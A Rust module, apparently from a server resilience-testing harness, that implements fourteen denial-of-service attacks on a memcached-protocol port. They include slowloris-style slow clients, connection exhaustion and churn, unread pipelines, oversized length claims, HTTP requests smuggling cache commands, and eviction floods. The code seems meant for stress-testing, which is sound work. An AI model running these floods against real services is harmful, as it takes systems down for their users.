//! The attacks on a port of memcached's protocol. Every attack is set up, stays for a window, and is taken down.

use std::any::Any;
use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::sync::atomic::{AtomicU64, Ordering};
use std::thread;
use std::time::{Duration, Instant};

use clap::ValueEnum;
use fastrand::Rng;
use petrel_command::failure::Failure;
use rustix::net::sockopt::set_socket_linger;

use super::honest::Client;
use crate::attacks::ActiveAttack;

/// The length of the large value, in bytes: a little less than the longest of both servers.
const LARGE_BYTES: usize = 1_000_000;

/// The length of the values that evict others, in bytes.
const EVICTING_BYTES: usize = 500_000;

/// The number of keys of evicting values: the server's memory has room for fewer.
const EVICTING_KEYS: u32 = 4_096;

/// The most bytes of unread requests of a connection: a million gets.
const PIPELINE_BYTES: usize = 1_000_000 * SMALL_GET.len();

const SMALL_GET: &[u8] = b"get attack-small\r\n";
const LARGE_GET: &[u8] = b"get attack-large\r\n";

/// A server that takes no byte for this time counts as full.
const FULL_AFTER: Duration = Duration::from_millis(50);

/// The longest time in which a server takes the bytes of a set-up.
const SET_UP_LIMIT: Duration = Duration::from_secs(3);

/// More connections than a server accepts.
const CONNECTIONS: usize = 4_200;

/// Clients that send a byte each, and the pause before the next byte.
const SLOW_CLIENTS: usize = 200;
const BYTE_PAUSE: Duration = Duration::from_millis(100);

/// The pause of attackers without a flood.
const PAUSE: Duration = Duration::from_millis(2);

/// The pause after a failed connection: the attacker's host has no port left.
const PORT_PAUSE: Duration = Duration::from_millis(1);

/// The key of the commands in web pages.
pub(super) const PAGE_KEY: &[u8] = b"attack-page";

/// The attack to run on a port of memcached's protocol.
#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
pub(crate) enum CacheAttack {
    /// 60 clients that ask for large values and do not read
    #[value(name = "large-unread-60")]
    LargeUnread60,
    /// Eight clients that ask for large values and do not read
    #[value(name = "large-unread-8")]
    LargeUnread8,
    /// 60 lines of keys without an end
    EndlessKeys,
    /// The first byte of 200 values
    HalfValues,
    /// A million small gets on each of four connections that read nothing
    PipelineUnread,
    /// 4 200 connections that send nothing
    Connections,
    /// Connections that send a byte and close, as fast as possible
    Churn,
    /// 200 clients that send their commands byte by byte
    SlowBytes,
    /// HTTP requests with commands in their body
    Http,
    /// Values of an impossible length
    HugeClaims,
    /// Random bytes, and requests of the binary protocol
    Garbage,
    /// Large values that evict the others, as fast as possible
    Evict,
    /// Pipelines of small gets whose replies are read, as fast as possible
    PipelineRead,
    /// Lines of 200 000 keys without a value, as fast as possible
    MissingKeys,
}

impl CacheAttack {
    /// Returns the attack's name on the command line.
    pub(super) fn name(self) -> String {
        self.to_possible_value().map_or_else(String::new, |value| value.get_name().to_owned())
    }

    /// Returns true if the attack keeps sending after its set-up, as fast as possible.
    pub(super) fn floods(self) -> bool {
        matches!(self, Self::Churn | Self::Evict | Self::PipelineRead | Self::MissingKeys)
    }

    pub(super) fn set_up(self, server: SocketAddr) -> Result<ActiveAttack, Failure> {
        match self {
            Self::LargeUnread60 => unread(server, 60, &LARGE_GET.repeat(100)),
            Self::LargeUnread8 => unread(server, 8, &LARGE_GET.repeat(100)),
            Self::EndlessKeys => unread(server, 60, &[b"get", &b" k".repeat(300_000)[..]].concat()),
            Self::HalfValues => unread(server, 200, b"set attack-half 0 0 100000\r\nv"),
            Self::PipelineUnread => {
                unread(server, 4, &SMALL_GET.repeat(PIPELINE_BYTES / SMALL_GET.len()))
            }
            Self::Connections => Ok(connections(server)),
            Self::Churn => Ok(ActiveAttack::flooding(
                "connections",
                (0..2_u8).map(|thread| churn(server, thread == 0)).collect(),
            )),
            Self::SlowBytes => slow_bytes(server),
            Self::Http => Ok(ActiveAttack::flooding("pages", vec![http(server)])),
            Self::HugeClaims => huge_claims(server),
            Self::Garbage => Ok(ActiveAttack::flooding("pieces of garbage", vec![garbage(server)])),
            Self::Evict => flood(server, "values", |client, rng| {
                let key = format!("evict-{}", rng.u32(..EVICTING_KEYS));
                client.set(key.as_bytes(), &[b'e'; EVICTING_BYTES]).is_ok()
            }),
            Self::PipelineRead => {
                store_targets(server)?;
                let requests = SMALL_GET.repeat(1_000);
                flood(server, "pipelines of 1 000 gets", move |client, _| {
                    client.pipeline(&requests, 1_000).is_ok()
                })
            }
            Self::MissingKeys => {
                let line = [b"get", &b" k".repeat(200_000)[..], b"\r\n"].concat();
                flood(server, "lines", move |client, _| client.pipeline(&line, 1).is_ok())
            }
        }
    }
}

/// Stores the values for the attackers' gets.
fn store_targets(server: SocketAddr) -> Result<(), Failure> {
    let mut client = Client::connect(server)?;
    client.set(b"attack-large", &vec![b'l'; LARGE_BYTES]).map_err(Failure::because)?;
    client.set(b"attack-small", &[b's'; 32]).map_err(Failure::because)
}

/// Opens clients that send `bytes`, as far as the server takes them, and read nothing.
fn unread(server: SocketAddr, clients: usize, bytes: &[u8]) -> Result<ActiveAttack, Failure> {
    store_targets(server)?;
    let (mut held, mut sent): (Vec<Box<dyn Any>>, _) = (Vec::new(), vec![0; clients]);
    let sockets =
        (0..clients).map(|_| TcpStream::connect(server)).collect::<Result<Vec<_>, _>>()?;
    sockets.iter().try_for_each(|socket| socket.set_nonblocking(true))?;
    let (begun, mut last) = (Instant::now(), Instant::now());
    while last.elapsed() < FULL_AFTER && begun.elapsed() < SET_UP_LIMIT {
        for (mut socket, sent) in sockets.iter().zip(&mut sent) {
            // A closed connection serves the attack less.
            if let Ok(count @ 1..) = socket.write(&bytes[*sent..]) {
                *sent += count;
                last = Instant::now();
            }
        }
    }
    held.extend(sockets.into_iter().map(|socket| Box::new(socket) as Box<dyn Any>));
    let obtained = format!("{} bytes taken from {clients} clients", sent.iter().sum::<usize>());
    Ok(ActiveAttack::holding(held, obtained))
}

fn connections(server: SocketAddr) -> ActiveAttack {
    let mut held: Vec<Box<dyn Any>> = Vec::new();
    for _ in 0..CONNECTIONS {
        // A refused connection serves the attack equally.
        if let Ok(socket) = TcpStream::connect_timeout(&server, PAUSE) {
            held.push(Box::new(socket));
        }
    }
    let obtained = format!("{} connections", held.len());
    ActiveAttack::holding(held, obtained)
}

/// Returns work that opens a connection, sends a byte and closes the connection: with a reset, or in order.
fn churn(server: SocketAddr, resets: bool) -> impl FnMut(&AtomicU64) + Send + 'static {
    move |count| {
        let Ok(mut socket) = TcpStream::connect(server) else { return thread::sleep(PORT_PAUSE) };
        if resets {
            // Failure leaves a close in order.
            let _ = set_socket_linger(&socket, Some(Duration::ZERO));
        }
        count.fetch_add(u64::from(socket.write_all(b"g").is_ok()), Ordering::Relaxed);
    }
}

fn slow_bytes(server: SocketAddr) -> Result<ActiveAttack, Failure> {
    store_targets(server)?;
    let sockets = (0..SLOW_CLIENTS).map(|_| TcpStream::connect(server));
    let mut sockets = sockets.collect::<Result<Vec<_>, _>>()?;
    sockets.iter().try_for_each(|socket| socket.set_nonblocking(true))?;
    let (mut next, mut replies) = (0, [0; 1 << 10]);
    let work = move |count: &AtomicU64| {
        let text = b"set attack-slow 0 0 5\r\nvalue\r\nget attack-slow attack-small\r\n";
        for socket in &mut sockets {
            // The replies are read: only the slowness is an attack.
            let _ = socket.read(&mut replies);
            let is_sent = socket.write(&text[next..=next]).is_ok();
            count.fetch_add(u64::from(is_sent), Ordering::Relaxed);
        }
        next = (next + 1) % text.len();
        thread::sleep(BYTE_PAUSE);
    };
    Ok(ActiveAttack::flooding("bytes", vec![work]))
}

fn http(server: SocketAddr) -> impl FnMut(&AtomicU64) + Send + 'static {
    let page = [&b"set "[..], PAGE_KEY, b" 0 0 4\r\npage\r\n"].concat();
    move |count| {
        for line in ["POST / HTTP/1.1", "GET /set HTTP/1.0"] {
            let head = format!("{line}\r\nHost: cache\r\nContent-Length: {}\r\n\r\n", page.len());
            let sent = TcpStream::connect(server)
                .and_then(|mut socket| socket.write_all(&[head.as_bytes(), &page].concat()));
            count.fetch_add(u64::from(sent.is_ok()), Ordering::Relaxed);
        }
        thread::sleep(PAUSE);
    }
}

fn huge_claims(server: SocketAddr) -> Result<ActiveAttack, Failure> {
    store_targets(server)?;
    let mut held: Vec<Box<dyn Any>> = Vec::new();
    let claims =
        ["1073741823", "2147483647", "4294967295", "18446744073709551615", "-1", "1048576"];
    for claim in claims.iter().cycle().take(60) {
        let mut socket = TcpStream::connect(server)?;
        socket.set_nonblocking(true)?;
        let command = format!("set attack-claim 0 0 {claim}\r\n");
        let value = [b'c'; 64 << 10];
        // Writes the bytes that the server takes at once.
        let _ = socket.write(&[command.as_bytes(), &value].concat());
        held.push(Box::new(socket));
    }
    let obtained = format!("{} claims", held.len());
    Ok(ActiveAttack::holding(held, obtained))
}

/// Returns work that sends a get of the binary protocol, and random bytes with and without line breaks.
fn garbage(server: SocketAddr) -> impl FnMut(&AtomicU64) + Send + 'static {
    let mut rng = Rng::with_seed(0x6761_7262);
    // A get of the binary protocol: magic, opcode, and a key and a body of the greatest length.
    let binary =
        [&[0x80, 0, 0xff, 0xff, 0, 0, 0, 0, 0xff, 0xff, 0xff, 0xff][..], &[7; 64]].concat();
    move |count| {
        for kind in 0..3_u8 {
            let mut bytes = binary.clone();
            if kind > 0 {
                bytes = (0..4_096).map(|_| rng.u8(..)).collect();
            }
            if kind == 2 {
                bytes.iter_mut().filter(|byte| **byte % 32 == 0).for_each(|byte| *byte = b'\n');
            }
            let sent = TcpStream::connect(server).and_then(|mut socket| socket.write_all(&bytes));
            count.fetch_add(u64::from(sent.is_ok()), Ordering::Relaxed);
        }
        thread::sleep(PAUSE);
    }
}

/// Opens four clients that repeat `request` as fast as possible, and connect again after a failure.
fn flood<R>(server: SocketAddr, of: &'static str, request: R) -> Result<ActiveAttack, Failure>
where
    R: Fn(&mut Client, &mut Rng) -> bool + Clone + Send + 'static,
{
    let works = (0..4).map(|seed| {
        let (mut client, mut rng) = (Some(Client::connect(server)?), Rng::with_seed(seed));
        let request = request.clone();
        Ok(move |count: &AtomicU64| {
            let Some(open) = &mut client else {
                client = Client::connect(server).ok();
                return;
            };
            match request(open, &mut rng) {
                true => drop(count.fetch_add(1, Ordering::Relaxed)),
                false => client = None,
            }
        })
    });
    Ok(ActiveAttack::flooding(of, works.collect::<Result<_, Failure>>()?))
}
